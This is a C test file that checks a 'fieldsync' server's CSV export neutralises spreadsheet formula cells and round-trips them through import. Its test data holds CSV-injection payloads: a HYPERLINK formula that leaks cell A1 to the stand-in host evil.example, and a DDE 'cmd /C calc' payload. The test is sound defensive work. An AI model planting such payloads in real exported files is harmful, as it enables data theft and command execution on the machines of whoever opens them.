/*
** test_export.c — GET /api/export.csv against a real fieldsync-server fed
** by the real `fieldsync` binary over TLS (issue 13, data safety):
**  - a cell Excel would run as a formula (= + - @) comes out with a
**    leading "'", in every column, never raw;
**  - the amount and expected_close columns are there;
**  - the file is byte for byte what `fieldsync export --format csv` writes
**    on the device (one writer, text/sheet_csv.c);
**  - `fieldsync import` of the server's file gives back the exact values,
**    the phone "+86 138 0013 8000" included.
*/
#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "csv.h"
#include "harness.h"
#include "http_client.h"

static th_server g_srv;
static char g_tok[80];

/* Run the fieldsync binary with argv (NULL-terminated, after the program
** name); its stdout (malloc'd) and exit code. */
static char *cli_run(int *code, const char *const *args)
{
    const char *argv[32];
    size_t n = 0;
    argv[n++] = FDS_CLI_BIN;
    for (size_t i = 0; args[i] && n < 31; i++)
        argv[n++] = args[i];
    argv[n] = NULL;
    int po[2];
    assert_int_equal(pipe(po), 0);
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        dup2(po[1], 1);
        close(po[0]);
        close(po[1]);
        setenv("TZ", "Asia/Shanghai", 1);
        execv(FDS_CLI_BIN, (char *const *)argv);
        _exit(127);
    }
    close(po[1]);
    size_t len = 0, cap = 1 << 16;
    char *out = malloc(cap);
    assert_non_null(out);
    ssize_t k;
    while ((k = read(po[0], out + len, cap - len - 1)) > 0) {
        len += (size_t)k;
        if (len + 1 == cap) {
            cap *= 2;
            out = realloc(out, cap);
            assert_non_null(out);
        }
    }
    out[len] = '\0';
    close(po[0]);
    int st;
    waitpid(pid, &st, 0);
    *code = WIFEXITED(st) ? WEXITSTATUS(st) : 128;
    return out;
}

#define CLI(...) cli_ok((const char *const[]){__VA_ARGS__, NULL})
static char *cli_ok(const char *const *args)
{
    int code;
    char *out = cli_run(&code, args);
    if (code != 0)
        fail_msg("fieldsync %s %s: exit %d\n%s", args[0], args[1], code, out);
    return out;
}

static char g_db[400], g_fresh[400], g_file[400], g_cli_file[400];

/* The values that must survive; each starts with a formula trigger. */
#define PHONE   "+86 138 0013 8000"
#define NOTES   "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")"
#define COMPANY "@SUM(1+1)*cmd|' /C calc'!A0"
#define TITLE   "-2+3 经理"
#define WECHAT  "@wang_fang"

static int setup(void **state)
{
    (void)state;
    memset(&g_srv, 0, sizeof g_srv);
    th_init(&g_srv);
    th_user(&g_srv, "wang", "rep", "east", g_tok);
    th_start(&g_srv, NULL);
    snprintf(g_db, sizeof g_db, "%s/wang.db", g_srv.dir);
    snprintf(g_fresh, sizeof g_fresh, "%s/fresh.db", g_srv.dir);
    snprintf(g_file, sizeof g_file, "%s/server.csv", g_srv.dir);
    snprintf(g_cli_file, sizeof g_cli_file, "%s/cli.csv", g_srv.dir);
    free(CLI("--db", g_db, "init", "--server", g_srv.url, "--token", g_tok,
             "--ca", g_srv.ca));
    free(CLI("--db", g_db, "customer", "add", "--name", "张伟", "--phone", PHONE,
             "--notes", NOTES, "--company", COMPANY, "--title", TITLE,
             "--wechat", WECHAT, "--amount", "480000", "--expected-close",
             "2027-03-31"));
    free(CLI("--db", g_db, "sync"));
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    th_cleanup(&g_srv);
    return 0;
}

static ta_resp get_export(void)
{
    char hdr[160];
    snprintf(hdr, sizeof hdr, "Authorization: Bearer %s\r\n", g_tok);
    ta_resp r = ta_request(g_srv.port, g_srv.ca, "GET", "/api/export.csv", hdr,
                           NULL);
    if (r.status != 200)
        fail_msg("GET /api/export.csv: %d %s", r.status, r.body ? r.body : "");
    return r;
}

/* Column of header name in the first record; -1 if absent. */
static int column(const fdt_csv_row *head, const char *name)
{
    for (size_t i = 0; i < head->n; i++)
        if (strcmp(head->cells[i], name) == 0)
            return (int)i;
    return -1;
}

static void test_formula_cells_guarded(void **state)
{
    (void)state;
    ta_resp r = get_export();
    assert_memory_equal(r.body, "\xef\xbb\xbf", 3);
    fdt_csv c;
    fdt_csv_row head = {NULL, 0, 0}, row = {NULL, 0, 0};
    char err[256];
    fdt_csv_init(&c, r.body + 3, r.len - 3);
    assert_int_equal(fdt_csv_next(&c, &head, err, sizeof err), 1);
    assert_int_equal(fdt_csv_next(&c, &row, err, sizeof err), 1);
    struct { const char *col, *want; } cells[] = {
        {"phone", "'" PHONE}, {"notes", "'" NOTES}, {"company", "'" COMPANY},
        {"title", "'" TITLE}, {"wechat", "'" WECHAT}, {"name", "张伟"},
        {"amount", "480000"}, {"expected_close", "2027-03-31"},
    };
    for (size_t i = 0; i < sizeof cells / sizeof cells[0]; i++) {
        int k = column(&head, cells[i].col);
        if (k < 0)
            fail_msg("no %s column in the export", cells[i].col);
        assert_true((size_t)k < row.n);
        if (strcmp(row.cells[k], cells[i].want) != 0)
            fail_msg("%s: \"%s\", want \"%s\"", cells[i].col, row.cells[k],
                     cells[i].want);
    }
    /* No cell of the file starts with a trigger. */
    for (size_t i = 0; i < row.n; i++) {
        char f = row.cells[i][0];
        if (f == '=' || f == '+' || f == '-' || f == '@' || f == '\t' ||
            f == '\r')
            fail_msg("cell %zu (%s) is a formula: %s", i, head.cells[i],
                     row.cells[i]);
    }
    assert_int_equal(fdt_csv_next(&c, &row, err, sizeof err), 0);
    fdt_csv_row_clear(&head);
    fdt_csv_row_clear(&row);
    ta_resp_free(&r);
}

static void test_same_file_as_the_cli(void **state)
{
    (void)state;
    ta_resp r = get_export();
    free(CLI("--db", g_db, "export", "--format", "csv", "--out", g_cli_file));
    FILE *f = fopen(g_cli_file, "rb");
    assert_non_null(f);
    char *mine = calloc(1, r.len + 2);
    assert_non_null(mine);
    size_t n = fread(mine, 1, r.len + 1, f);
    fclose(f);
    if (n != r.len || memcmp(mine, r.body, r.len) != 0)
        fail_msg("the server's export differs from the CLI's:\n%s\n---\n%s",
                 r.body, mine);
    free(mine);
    ta_resp_free(&r);
}

static void test_import_gives_back_the_values(void **state)
{
    (void)state;
    ta_resp r = get_export();
    FILE *f = fopen(g_file, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(r.body, 1, r.len, f), r.len);
    fclose(f);
    ta_resp_free(&r);
    free(CLI("--db", g_fresh, "import", g_file));
    char *out = CLI("--db", g_fresh, "--json", "customer", "list");
    json_t *list = json_loads(out, 0, NULL);
    free(out);
    assert_int_equal(json_array_size(list), 1);
    const char *id = json_string_value(json_object_get(json_array_get(list, 0),
                                                       "id"));
    out = CLI("--db", g_fresh, "--json", "customer", "show", id);
    json_t *c = json_loads(out, 0, NULL);
    free(out);
    assert_non_null(c);
    struct { const char *k, *want; } vals[] = {
        {"phone", PHONE}, {"notes", NOTES}, {"company", COMPANY},
        {"title", TITLE}, {"wechat", WECHAT}, {"expected_close", "2027-03-31"},
    };
    for (size_t i = 0; i < sizeof vals / sizeof vals[0]; i++) {
        const char *v = json_string_value(json_object_get(c, vals[i].k));
        if (!v || strcmp(v, vals[i].want) != 0)
            fail_msg("%s after import: \"%s\", want \"%s\"", vals[i].k,
                     v ? v : "(null)", vals[i].want);
    }
    assert_true(json_number_value(json_object_get(c, "amount")) == 480000);
    json_decref(c);
    json_decref(list);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_formula_cells_guarded),
        cmocka_unit_test(test_same_file_as_the_cli),
        cmocka_unit_test(test_import_gives_back_the_values),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
